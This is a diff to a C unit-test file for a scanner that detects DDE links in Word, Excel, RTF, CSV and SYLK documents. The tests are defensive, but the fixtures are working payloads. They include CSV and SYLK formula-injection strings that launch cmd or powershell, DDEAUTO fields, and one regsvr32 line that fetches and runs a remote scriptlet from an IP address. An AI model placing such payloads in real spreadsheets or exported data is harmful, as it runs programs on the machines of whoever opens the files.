@@ -2,9 +2,9 @@
  * DDE links in documents (src/detect/docscan_dde.c): which links start a program; Word field
  * codes in WordprocessingML (w:fldSimple, complex fields split over runs, entities, other
  * namespace prefixes, nested fields, fields cut off by the end of the data); Excel's ddeLink;
- * RTF \fldinst with escapes and groups; the preference for a link that starts a program over
- * an earlier harmless one; every prefix of each sample, from exact-size heap copies (ASan
- * sees a one-byte over-read), and hostile repetitions in linear time.
+ * RTF \fldinst with escapes and groups; DDE formulas in CSV and SYLK text; the preference for a
+ * link that starts a program over an earlier harmless one; every prefix of each sample, from
+ * exact-size heap copies (ASan sees a one-byte over-read), and hostile repetitions in linear time.
  */
 #include "detect/docscan.h"
 #include "testlib/tcheck.h"
@@ -68,7 +68,7 @@ static void test_runs_program(void **state)
         {"Excel", "C:\\Users\\kato\\data.xlsx", true, false},
         {"BLP", "BDP", false, false},
         {"REUTER", "IDN", false, false},
-        {"BLP", "BDP", true, true},           /* updated on opening, not an Office program */
+        {"BLP", "BDP", true, true},               /* updated on opening, not an Office program */
         {"Excel", "run powershell", false, true}, /* a runner named in the topic */
         {"Excel", "cmdlet-docs", false, false},   /* ... as a word of its own only */
         {"Excel", "Sheet1 xcmd", false, false},
@@ -171,12 +171,11 @@ static void test_docx(void **state)
 
     /* text after a field's "separate" is not its code (here a stray run: a code of its own);
      * text after a nested field's "separate" belongs to the field still open around it */
-    static const char sep[] =
-        "<w:document " W "><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
-        "<w:r><w:instrText>HYPERLINK x</w:instrText></w:r>"
-        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
-        "<w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r>"
-        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:document>";
+    static const char sep[] = "<w:document " W "><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+                              "<w:r><w:instrText>HYPERLINK x</w:instrText></w:r>"
+                              "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
+                              "<w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r>"
+                              "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:document>";
     assert_true(run(ds_docx_dde, sep, &x));
     assert_string_equal(x.app, "cmd");
     static const char inner[] =
@@ -269,7 +268,9 @@ static void test_xlsx(void **state)
     static const char *const none[] = {
         "<externalLink><externalBook r:id=\"rId1\"/></externalLink>",
         "<externalLink><ddeLink ddeTopic=\"x\"/></externalLink>", /* no service */
-        "<externalLink><ddeLink ddeService=\"cmd", "<ddeLinks/>", "",
+        "<externalLink><ddeLink ddeService=\"cmd",
+        "<ddeLinks/>",
+        "",
     };
     for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
         TC_CHECK(none[i], !run(ds_xlsx_dde, none[i], &x));
@@ -308,7 +309,8 @@ static void test_rtf(void **state)
         "{\\rtf1 DDEAUTO cmd /c calc\\par}",
         "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://example.com\"}{\\fldrslt a}}}",
         "{\\rtf1{\\field{\\*\\fldinstr DDEAUTO cmd}}}",
-        "{\\rtf1{\\*\\fldinst", "",
+        "{\\rtf1{\\*\\fldinst",
+        "",
     };
     for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
         TC_CHECK(none[i], !run(ds_rtf_dde, none[i], &x));
@@ -329,12 +331,99 @@ static void test_rtf(void **state)
     free(b);
 }
 
+/* Text spreadsheets: CSV formulas in their usual disguises, quoted cells, DDE(), SYLK; data
+ * with pipes and ordinary formulas is silent; long lines and many pipes in one pass. */
+static void test_text(void **state)
+{
+    (void)state;
+    struct ds_dde x;
+    static const struct {
+        const char *text, *app, *topic;
+        bool runs;
+    } rows[] = {
+        {"name,qty\r\npen,3\r\n=cmd|' /C calc '!A0,1\r\n", "cmd", "/C calc", true},
+        {"a;b\n+cmd|'/c calc'!A0;2\n", "cmd", "/c calc", true},
+        {"-2+3+cmd|'/c calc'!A0\n", "cmd", "/c calc", true},
+        {"x\t@SUM(1+1)*cmd|'/c calc'!A0\n", "cmd", "/c calc", true},
+        {"\"=cmd|'/c echo a,b'!A0\",z\n", "cmd", "/c echo a,b", true},
+        {"=cmd|'/c a,b'!A0,z\n", "cmd", "/c a,b", true},
+        {"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.7/"
+         "a.sct scrobj.dll'!''\n",
+         "MSEXCEL",
+         "\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.7/"
+         "a.sct scrobj.dll",
+         true},
+        {"\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"__DdE_LinK__\"\")\"\n", "cmd", "/C calc", true},
+        {"=dde(\"cmd\",\"/c calc\",\"x\")\n", "cmd", "/c calc", true},
+        {"ID;P\r\nC;Y1;X1;K0;ECMD|'/C CALC'!A0\r\nE\r\n", "CMD", "/C CALC", true},
+        {"=Excel|'C:\\Data\\Q3.xlsx'!R1C1\n", "Excel", "C:\\Data\\Q3.xlsx", false},
+        {"=cmd|'it''s'!A0\n", "cmd", "it's", true},
+        /* a harmless link first, one that runs a program later */
+        {"=BLP|BDP!x\n=powershell|'-c x'!A0\n", "powershell", "-c x", true},
+    };
+    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
+        bool got = run(ds_text_dde, rows[i].text, &x);
+        TC_CHECK(rows[i].text, got);
+        if (!got)
+            continue;
+        TC_CHECK(rows[i].text, !strcmp(x.app, rows[i].app));
+        TC_CHECK(rows[i].text, !strcmp(x.topic, rows[i].topic));
+        if (strcmp(x.app, rows[i].app) || strcmp(x.topic, rows[i].topic))
+            fprintf(stderr, "  got app '%s' topic '%s'\n", x.app, x.topic);
+        TC_EQ(rows[i].text, x.runs_program, rows[i].runs);
+        TC_EQ(rows[i].text, x.autoupdate, false);
+    }
+    static const char *const none[] = {
+        "name,qty\r\npen,3\r\n",
+        "=SUM(A1:A3),x\n",
+        "a|b!c,d\n",
+        "path|to|file\n",
+        "=cmd|'/c calc'\n",    /* no '!' */
+        "=cmd|'/c calc\n",     /* quote never closed */
+        "=|x!A0\n",            /* no application */
+        "note: =cmd|'x'!A0\n", /* not at the start of a cell */
+        "C;Y1;X1;K0\n",
+        "=dde(cmd)\n",
+        "\"=IF(A1;B|C;D!E)\"\n",        /* a separator ends an unquoted topic */
+        "=XDDE(\"cmd\";\"/c calc\")\n", /* another function */
+        "",
+    };
+    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
+        TC_CHECK(none[i], !run(ds_text_dde, none[i], &x));
+    tc_done();
+    /* only the first DS_TEXT_DDE_BYTES */
+    size_t cap = DS_TEXT_DDE_BYTES + 64, n = 0;
+    char *b = malloc(cap + (4u << 20));
+    assert_non_null(b);
+    memset(b, 'a', DS_TEXT_DDE_BYTES);
+    n = DS_TEXT_DDE_BYTES;
+    memcpy(b + n, "\n=cmd|'x'!A0\n", 13);
+    n += 13;
+    assert_false(ds_text_dde((const uint8_t *)b, n, &x));
+    memcpy(b + DS_TEXT_DDE_BYTES - 13, "\n=cmd|'x'!A0\n", 13);
+    assert_true(ds_text_dde((const uint8_t *)b, n, &x));
+    /* 4 MiB of cells full of pipes and DDE( without an end, quotes that never close */
+    static const char pat[] = "=|||||||dde(\"x\";'|";
+    for (n = 0; n + sizeof pat < (4u << 20); n += sizeof pat - 1)
+        memcpy(b + n, pat, sizeof pat - 1);
+    assert_false(ds_text_dde((const uint8_t *)b, n, &x));
+    memset(b, '|', 4u << 20);
+    b[0] = '=';
+    assert_false(ds_text_dde((const uint8_t *)b, 4u << 20, &x));
+    /* a SYLK expression (not cut at 1 KiB like a cell) of 128 Ki references without '!' */
+    memcpy(b, "C;E", 3);
+    for (n = 3; n + 2 <= (256u << 10); n += 2)
+        memcpy(b + n, "a|", 2);
+    assert_false(ds_text_dde((const uint8_t *)b, n, &x));
+    free(b);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_runs_program), cmocka_unit_test(test_docx),
         cmocka_unit_test(test_docx_hostile), cmocka_unit_test(test_xlsx),
-        cmocka_unit_test(test_rtf),
+        cmocka_unit_test(test_rtf),          cmocka_unit_test(test_text),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
